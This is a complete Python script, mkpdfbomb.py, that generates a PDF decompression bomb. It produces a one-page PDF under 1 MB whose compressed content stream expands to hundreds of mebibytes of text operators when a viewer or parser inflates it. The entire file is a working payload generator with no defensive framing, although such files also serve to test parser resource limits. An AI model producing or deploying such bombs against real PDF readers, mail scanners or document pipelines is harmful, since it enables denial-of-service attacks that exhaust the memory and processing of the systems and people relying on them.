# mkpdfbomb.py OUT [MiB]: a one-page PDF whose content stream (FlateDecode) inflates to
# MiB mebibytes of text operators (default 300) from under 1 MB on disk.
import sys, zlib
out = sys.argv[1]; mb = int(sys.argv[2]) if len(sys.argv) > 2 else 300
chunk = b"BT /F1 12 Tf 72 720 Td (A) Tj ET\n" * 32768  # ~1 MiB
co = zlib.compressobj(9)
data = b"".join(co.compress(chunk) for _ in range(mb)) + co.flush()
objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
pdf = bytearray(b"%PDF-1.4\n")
offs = []
for i, o in enumerate(objs, 1):
    offs.append(len(pdf))
    pdf += b"%d 0 obj\n" % i + o + b"\nendobj\n"
x = len(pdf)
pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
for o in offs:
    pdf += b"%010d 00000 n \n" % o
pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)
open(out, "wb").write(pdf)
